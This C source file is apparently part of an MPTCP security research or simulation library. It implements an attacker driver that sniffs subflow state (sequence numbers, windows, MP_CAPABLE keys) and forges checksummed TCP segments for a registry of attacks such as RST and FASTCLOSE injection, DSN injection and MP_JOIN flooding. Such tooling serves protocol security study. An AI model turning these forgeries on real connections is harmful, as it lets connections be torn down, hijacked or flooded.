/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * attack.c - the attacker's driver and the registry of attacks.
 *
 * Driven like a stack (mptcp.h, "Attacker"): observe, write, expiry. The
 * driver learns from observed segments what any on-path eavesdropper can
 * (4-tuples, who sent the SYN, next sequence numbers, acknowledgements,
 * windows, MP_JOIN address ids, MP_CAPABLE keys, which RFC 8684 sends in
 * clear: RFC 7430 section 5), picks the subflow toward the victim, fills
 * each forgery's fixed fields and encodes it with the codec. The attack
 * (an ops-table entry) says what the forgery carries.
 */
#include <string.h>

#include "attack.h"
#include "wire.h"

extern const struct attack_ops attack_rst;
extern const struct attack_ops attack_mp_tcprst;
extern const struct attack_ops attack_remove_addr;
extern const struct attack_ops attack_mp_prio;
extern const struct attack_ops attack_fastclose;
extern const struct attack_ops attack_dsn_inject;
extern const struct attack_ops attack_join_guess;
extern const struct attack_ops attack_join_flood;
extern const struct attack_ops attack_eavesdrop_join;
extern const struct attack_ops attack_add_addr;
extern const struct attack_ops attack_hole_flood;

/* The registry: one line per attack. */
static const struct attack_ops *const attack_table[] = {
    &attack_rst,      &attack_mp_tcprst, &attack_remove_addr,
    &attack_mp_prio,  &attack_fastclose,
    &attack_dsn_inject, &attack_join_guess, &attack_join_flood,
    &attack_add_addr, &attack_hole_flood, &attack_eavesdrop_join,
};
#define N_ATTACKS (sizeof(attack_table) / sizeof(attack_table[0]))

static const struct attack_ops *attack_find(const char *name) {
  for (size_t i = 0; i < N_ATTACKS; i++)
    if (strcmp(attack_table[i]->name, name) == 0)
      return attack_table[i];
  return NULL;
}

const char *mptcp_attack_name(unsigned i) {
  return i < N_ATTACKS ? attack_table[i]->name : NULL;
}

int mptcp_attack_check(const char *name) {
  if (!name)
    return MPTCP_ERR_INVALID_ARGUMENT;
  return attack_find(name) ? MPTCP_OK : MPTCP_ERR_UNKNOWN_ATTACK;
}

void mptcp_attack_config_default(mptcp_attack_config *cfg) {
  memset(cfg, 0, sizeof(*cfg));
  cfg->name = "rst";
  cfg->on_path = 1;
  cfg->victim = MPTCP_VICTIM_CLIENT;
  cfg->start_ns = MPTCP_S;
  cfg->guesses = 1;
  cfg->interval_ns = 10000;
  cfg->guess_step = 65535;
  cfg->payload_len = 100;
}

uint64_t atk_rand64(struct mptcp_attacker *a) {
  uint8_t b[8];
  a->rand(b, sizeof(b), a->user_data);
  return get_be64(b);
}

int atk_victim_key(const struct mptcp_attacker *a, const struct atk_flow *f, uint64_t *key) {
  if (!a->st.keys_known)
    return 0;
  /* f runs from the victim's peer to the victim */
  *key = f->from_client ? a->key_server : a->key_client;
  return 1;
}

static int addr_ok(const mptcp_addr *x) { return x->family == 4 || x->family == 6; }

int mptcp_attacker_new(mptcp_attacker **pa, const mptcp_attack_config *cfg, const mptcp_mem *mem,
                       mptcp_rand_fn rand, void *user_data) {
  if (!pa || !cfg || !rand || !cfg->name)
    return MPTCP_ERR_INVALID_ARGUMENT;
  *pa = NULL;
  const struct attack_ops *ops = attack_find(cfg->name);
  if (!ops)
    return MPTCP_ERR_UNKNOWN_ATTACK;
  if (cfg->guesses == 0 || cfg->guesses > (1u << 24) || cfg->guess_step == 0 ||
      cfg->guess_step > (1u << 31) || cfg->victim > MPTCP_VICTIM_SERVER || cfg->on_path > 1)
    return MPTCP_ERR_INVALID_ARGUMENT;
  if (!cfg->on_path && (!addr_ok(&cfg->victim_addr) ||
                        cfg->victim_addr.family != cfg->peer_addr.family))
    return MPTCP_ERR_INVALID_ARGUMENT;
  if (!mem)
    mem = mptcp_mem_default();
  if (!mem->malloc_fn || !mem->free_fn)
    return MPTCP_ERR_INVALID_ARGUMENT;
  mptcp_attacker *a = mem->malloc_fn(sizeof(*a), mem->user_data);
  if (!a)
    return MPTCP_ERR_NOMEM;
  memset(a, 0, sizeof(*a));
  a->cfg = *cfg;
  a->ops = ops;
  a->mem = *mem;
  a->rand = rand;
  a->user_data = user_data;
  a->next_ns = cfg->start_ns;
  if (!cfg->on_path) {
    struct atk_flow *b = &a->blind;
    b->used = b->synced = 1;
    b->src = cfg->peer_addr;
    b->dst = cfg->victim_addr;
    b->from_client = cfg->victim == MPTCP_VICTIM_SERVER;
    b->addr_id = cfg->addr_id;
    b->window = 65535;
    a->guess_base = (uint32_t)atk_rand64(a);
    a->guess_ack = (uint32_t)atk_rand64(a);
    a->target = b;
    a->st.target_known = 1;
  }
  if (ops->init) {
    int e = ops->init(a);
    if (e < 0) {
      a->mem.free_fn(a, sizeof(*a), a->mem.user_data);
      return e;
    }
  }
  *pa = a;
  return MPTCP_OK;
}

void mptcp_attacker_del(mptcp_attacker *a) {
  if (a)
    a->mem.free_fn(a, sizeof(*a), a->mem.user_data);
}

static int same_addr(const mptcp_addr *x, const mptcp_addr *y) {
  size_t n = x->family == 6 ? 16 : 4;
  return x->family == y->family && x->port == y->port && memcmp(x->ip, y->ip, n) == 0;
}

static struct atk_flow *flow_find(mptcp_attacker *a, const mptcp_addr *src, const mptcp_addr *dst) {
  for (unsigned i = 0; i < a->n_flows; i++)
    if (same_addr(&a->flows[i].src, src) && same_addr(&a->flows[i].dst, dst))
      return &a->flows[i];
  return NULL;
}

/* A new direction: the table is small and a run has few subflows; when it
 * is full, the oldest slot is reused (round robin). */
static struct atk_flow *flow_add(mptcp_attacker *a, const mptcp_addr *src, const mptcp_addr *dst) {
  struct atk_flow *f;
  if (a->n_flows < ATK_MAX_FLOWS) {
    f = &a->flows[a->n_flows++];
  } else {
    /* the subflow forged on keeps its slot: a stream of other flows (a
     * join flood's SYN/ACKs crossing the link, say) must not evict it */
    f = &a->flows[a->st.observed % ATK_MAX_FLOWS];
    if (a->target == f)
      f = &a->flows[(a->st.observed + 1) % ATK_MAX_FLOWS];
  }
  memset(f, 0, sizeof(*f));
  f->used = 1;
  f->src = *src;
  f->dst = *dst;
  return f;
}

int mptcp_attacker_observe(mptcp_attacker *a, const mptcp_addr *src, const mptcp_addr *dst,
                           const uint8_t *data, size_t len, size_t virtual_len, uint64_t now) {
  if (!a || !src || !dst || (!data && len))
    return MPTCP_ERR_INVALID_ARGUMENT;
  if (!a->cfg.on_path)
    return MPTCP_OK;
  mptcp_tcphdr th;
  int hl = mptcp_tcphdr_decode(&th, data, len);
  if (hl < 0)
    return MPTCP_OK; /* malformed or options we cannot parse: ignored */
  mptcp_addr s = *src, d = *dst;
  s.port = th.sport;
  d.port = th.dport;
  /* victim_addr given on-path: the other connections' segments are not
   * this attacker's business (nor do they take its table's slots) */
  if (a->cfg.victim_addr.family && !same_addr(&s, &a->cfg.victim_addr) &&
      !same_addr(&d, &a->cfg.victim_addr))
    return MPTCP_OK;
  a->st.observed++;
  a->waiting = 0;
  struct atk_flow *f = flow_find(a, &s, &d);
  if (!f)
    f = flow_add(a, &s, &d);
  size_t plen = len - (size_t)hl + virtual_len;
  uint32_t end = th.seq + (uint32_t)plen + !!(th.flags & MPTCP_TH_SYN) + !!(th.flags & MPTCP_TH_FIN);
  if (!f->synced && !(th.flags & MPTCP_TH_SYN))
    f->nxt = end;
  else if (mptcp_after32(end, f->nxt) || (th.flags & MPTCP_TH_SYN))
    f->nxt = end;
  f->seq_last = th.seq;
  f->last_plen = (uint32_t)plen;
  if (th.flags & MPTCP_TH_ACK) {
    f->ack = th.ack;
    f->window = th.window;
  }
  if (th.flags & MPTCP_TH_SYN) {
    f->from_client = !(th.flags & MPTCP_TH_ACK);
    f->is_join = !!(th.opts & MPTCP_OPT_MP_JOIN);
    f->addr_id = f->is_join ? th.join.addr_id : 0;
    f->isn = th.seq;
    f->isn_seen = 1;
    struct atk_flow *r = flow_find(a, &d, &s);
    if (r && (th.flags & MPTCP_TH_ACK)) { /* SYN/ACK: the reverse is the client's */
      r->from_client = 1;
      r->is_join = f->is_join;
    }
  } else if (!(th.flags & MPTCP_TH_RST)) {
    f->synced = 1;
  }
  if ((th.opts & MPTCP_OPT_MP_CAPABLE) && th.mpc.len >= MPTCP_MPC_LEN_ACK && f->from_client) {
    a->key_client = th.mpc.sender_key;
    a->key_server = th.mpc.receiver_key;
    a->st.keys_known = 1;
  }
  /* the subflow forged on: until the first forgery, the last
   * synchronised direction from the victim. Its own segments tell what
   * the victim expects (their ACK is its RCV.NXT), whichever way the
   * other direction is routed. */
  int victim_is_client = a->cfg.victim == MPTCP_VICTIM_CLIENT;
  /* victim_addr given on-path: only the victim's subflows from that
   * address and port (one attacker per connection of a host) */
  int wanted = !a->cfg.victim_addr.family || same_addr(&f->src, &a->cfg.victim_addr);
  if (a->sent == 0 && f->synced && !(th.flags & MPTCP_TH_RST) && wanted &&
      (th.flags & MPTCP_TH_ACK) && f->from_client == victim_is_client) {
    a->target = f;
    a->st.target_known = 1;
  }
  if (a->ops->observe)
    a->ops->observe(a, f, &th, now);
  return MPTCP_OK;
}

static int due(const mptcp_attacker *a, uint64_t now) {
  return a->target && a->sent < a->cfg.guesses && now >= a->next_ns;
}

int mptcp_attacker_write(mptcp_attacker *a, mptcp_segment *seg, uint8_t *buf, size_t cap,
                         uint64_t now) {
  if (!a || !seg || !buf)
    return MPTCP_ERR_INVALID_ARGUMENT;
  if (!due(a, now))
    return 0;
  /* the forgery runs over `f`, from the victim's peer to the victim */
  struct atk_flow fw;
  mptcp_tcphdr h;
  memset(&h, 0, sizeof(h));
  if (a->cfg.on_path) {
    const struct atk_flow *v = a->target; /* the victim's own direction */
    memset(&fw, 0, sizeof(fw));
    fw.src = v->dst;
    fw.dst = v->src;
    fw.from_client = !v->from_client;
    fw.synced = 1;
    fw.addr_id = a->cfg.addr_id;
    const struct atk_flow *p = flow_find(a, &v->dst, &v->src);
    if (p) {
      fw.addr_id = p->addr_id; /* the peer's id: its SYN/ACK, 0 initially */
      fw.isn = p->isn;
      fw.is_join = p->is_join;
      fw.used = p->isn_seen;
    }
    h.seq = v->ack; /* the victim's RCV.NXT */
    /* the sequence number after the peer's highest segment seen on the
     * link: at or beyond the victim's RCV.NXT, which its last ACK may
     * understate (a delayed ACK) */
    fw.nxt = p && p->synced && mptcp_after32(p->nxt, h.seq) ? p->nxt : h.seq;
    /* an acknowledgement that acknowledges nothing new: the peer's last
     * one if its direction crosses the link, else the start of the
     * victim's last segment (never beyond SND.NXT) */
    h.ack = p && p->synced ? p->ack : v->seq_last;
    h.window = p && p->synced ? p->window : 65535;
  } else {
    fw = a->blind;
    h.seq = a->guess_base + a->sent * a->cfg.guess_step;
    h.ack = a->guess_ack;
    h.window = fw.window;
  }
  const struct atk_flow *f = &fw;
  h.sport = f->src.port;
  h.dport = f->dst.port;
  a->payload_len = 0;
  a->forge_src_set = 0;
  int e = a->ops->write(a, f, &h, now);
  if (e < 0)
    return e;
  if (e == 1) {
    a->waiting = 1; /* nothing to forge yet: not before the next observation */
    return 0;
  }
  int hl = mptcp_tcphdr_encode(buf, cap, &h);
  if (hl < 0)
    return hl;
  size_t plen = a->payload_len;
  size_t inbuf = a->cfg.virtual_payload ? 0 : plen; /* payload bytes written */
  if ((size_t)hl + inbuf > cap)
    return MPTCP_ERR_NOBUF;
  memset(buf + hl, MPTCP_ATTACK_PATTERN, inbuf);
  size_t n = (size_t)hl + inbuf;
  mptcp_addr src = a->forge_src_set ? a->forge_src : f->src;
  src.port = h.sport;
  uint16_t c = src.family == 6 ? mptcp_tcp_checksum_ipv6(src.ip, f->dst.ip, buf, n)
                               : mptcp_tcp_checksum_ipv4(src.ip, f->dst.ip, buf, n);
  put_be16(buf + 16, c);
  memset(seg, 0, sizeof(*seg));
  seg->src = src;
  seg->dst = f->dst;
  seg->len = n;
  seg->hdr_len = (size_t)hl;
  seg->payload_len = plen;
  seg->payload_virtual = inbuf != plen;
  a->st.forged_bytes += plen;
  a->sent++;
  a->st.forged++;
  a->next_ns = now + a->cfg.interval_ns;
  if (a->sent >= a->cfg.guesses)
    a->st.done = 1;
  return 1;
}

uint64_t mptcp_attacker_get_expiry(const mptcp_attacker *a) {
  /* waiting: the attack needs to see more first (mptcp_attacker_write
   * found nothing to forge yet); the next observation decides */
  if (!a || a->sent >= a->cfg.guesses || !a->target || a->waiting)
    return MPTCP_TIME_NEVER;
  return a->next_ns;
}

int mptcp_attacker_handle_expiry(mptcp_attacker *a, uint64_t now) {
  (void)a;
  (void)now;
  return MPTCP_OK; /* the forgery due is written by the next write() */
}

void mptcp_attacker_get_stats(const mptcp_attacker *a, mptcp_attacker_stats *st) {
  if (a && st)
    *st = a->st;
}
